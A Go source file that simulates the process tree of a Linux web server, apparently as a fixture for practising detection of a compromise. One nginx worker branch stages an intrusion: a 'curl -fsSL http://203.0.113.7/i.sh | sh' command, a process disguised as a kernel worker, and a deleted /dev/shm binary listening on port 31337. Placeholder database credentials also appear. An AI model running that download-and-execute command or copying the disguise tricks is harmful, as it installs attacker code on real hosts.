//go:build linux

package main

import "slices"

// service is a process of the server in the pictures: a copy of this program, which
// recognises itself by its arguments.
type service struct {
	exe      string
	args     []string
	user     string
	env      []string
	dir      string
	busy     int      // percent of one core
	memory   int      // MB
	listen   []string // TCP addresses
	dial     []string // TCP addresses, from the address of the server
	rate     int      // kB per second sent to each
	deleted  bool     // its file is removed once it runs
	children []service
}

const (
	initPath    = "/usr/lib/systemd/systemd"
	programPath = "/usr/local/bin/smoothtask"
	hostName    = "web1"
	address     = "10.20.0.11" // of the server, beside loopback
)

// users of the server, after the habits of Debian.
var users = []struct {
	name  string
	id    int
	home  string
	shell string
}{
	{"root", 0, "/root", "/bin/bash"}, {"www-data", 33, "/var/www", "/usr/sbin/nologin"},
	{"postgres", 106, "/var/lib/postgresql", "/bin/bash"}, {"redis", 107, "/var/lib/redis", "/usr/sbin/nologin"},
	{"shop", 990, "/srv/shop", "/usr/sbin/nologin"}, {"prometheus", 108, "/var/lib/prometheus", "/usr/sbin/nologin"},
	{"alice", 1000, "/home/alice", "/bin/bash"},
}

// booted is what init starts.
var booted = []service{
	{exe: "/usr/lib/systemd/systemd-journald", args: []string{"/lib/systemd/systemd-journald"}, memory: 9, busy: 1},
	{exe: "/usr/lib/systemd/systemd-logind", args: []string{"/lib/systemd/systemd-logind"}},
	{exe: "/usr/sbin/cron", args: []string{"/usr/sbin/cron", "-f"}},
	{exe: "/usr/sbin/sshd", args: []string{"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"},
		listen: []string{"0.0.0.0:22"}, children: []service{
			{exe: "/usr/sbin/sshd", args: []string{"sshd: alice [priv]"}, children: []service{
				{exe: "/usr/sbin/sshd", args: []string{"sshd: alice@pts/0"}, user: "alice", children: []service{
					{exe: "/usr/bin/bash", args: []string{"-bash"}, user: "alice", dir: "/home/alice", children: []service{
						{exe: "/usr/bin/vim", args: []string{"vim", "deploy.yml"}, user: "alice", dir: "/home/alice", memory: 6},
					}},
				}},
			}},
		}},
	{exe: "/usr/sbin/nginx", args: []string{"nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"},
		listen: []string{"0.0.0.0:80", "0.0.0.0:443"}, memory: 4, children: []service{
			{exe: "/usr/sbin/nginx", args: []string{"nginx: worker process"}, user: "www-data", busy: 3, memory: 14,
				dial: []string{"127.0.0.1:8000"}, rate: 120},
			{exe: "/usr/sbin/nginx", args: []string{"nginx: worker process", ""}, user: "www-data", busy: 2, memory: 12,
				dial: []string{"127.0.0.1:8000"}, rate: 90, children: []service{
					{exe: "/usr/bin/dash", args: []string{"sh", "-c", "curl -fsSL http://203.0.113.7/i.sh | sh"}, user: "www-data", children: []service{
						{exe: "/tmp/.font-unix/update", args: []string{"[kworker/u4:2]"}, user: "www-data", busy: 6, memory: 24},
						{exe: "/dev/shm/.d", args: []string{"./.d", "-p", "31337"}, user: "www-data", dir: "/dev/shm",
							listen: []string{"0.0.0.0:31337"}, deleted: true},
					}},
				}},
		}},
	{exe: "/srv/shop/bin/gunicorn", args: []string{"gunicorn: master [shop.wsgi]"}, user: "shop", env: shopEnv, dir: "/srv/shop",
		listen: []string{"127.0.0.1:8000"}, memory: 48, children: []service{
			{exe: "/srv/shop/bin/gunicorn", args: []string{"gunicorn: worker [shop.wsgi]"}, user: "shop", env: shopEnv, dir: "/srv/shop",
				busy: 9, memory: 86, dial: []string{address + ":5432", "127.0.0.1:6379"}, rate: 40},
			{exe: "/srv/shop/bin/gunicorn", args: []string{"gunicorn: worker [shop.wsgi]", ""}, user: "shop", env: shopEnv, dir: "/srv/shop",
				busy: 7, memory: 79, dial: []string{address + ":5432", "127.0.0.1:6379"}, rate: 30},
		}},
	{exe: "/usr/lib/postgresql/15/bin/postgres", args: []string{"/usr/lib/postgresql/15/bin/postgres", "-D", "/var/lib/postgresql/15/main"},
		user: "postgres", listen: []string{address + ":5432"}, memory: 64, children: []service{
			{exe: "/usr/lib/postgresql/15/bin/postgres", args: []string{"postgres: 15/main: checkpointer"}, user: "postgres", memory: 22},
			{exe: "/usr/lib/postgresql/15/bin/postgres", args: []string{"postgres: 15/main: walwriter"}, user: "postgres", busy: 1, memory: 12},
			{exe: "/usr/lib/postgresql/15/bin/postgres", args: []string{"postgres: 15/main: shop shop SELECT"}, user: "postgres", busy: 5, memory: 38},
		}},
	{exe: "/usr/bin/redis-server", args: []string{"/usr/bin/redis-server 127.0.0.1:6379"}, user: "redis",
		listen: []string{"127.0.0.1:6379"}, busy: 2, memory: 31},
	{exe: "/usr/bin/prometheus-node-exporter", args: []string{"/usr/bin/prometheus-node-exporter"}, user: "prometheus",
		listen: []string{"0.0.0.0:9100"}, memory: 18, busy: 1},
}

var shopEnv = []string{"PATH=/srv/shop/bin:/usr/bin:/bin", "LANG=C.UTF-8", "HOME=/srv/shop",
	"DJANGO_SETTINGS_MODULE=shop.settings", "DATABASE_URL=postgres://shop:correct-horse@" + address + "/shop", "SECRET_KEY=battery-staple"}

// find returns the service with these arguments.
func find(args []string) *service { return findIn(booted, args) }

func findIn(list []service, args []string) *service {
	for i := range list {
		if slices.Equal(list[i].args, args) {
			return &list[i]
		}
		if s := findIn(list[i].children, args); s != nil {
			return s
		}
	}
	return nil
}
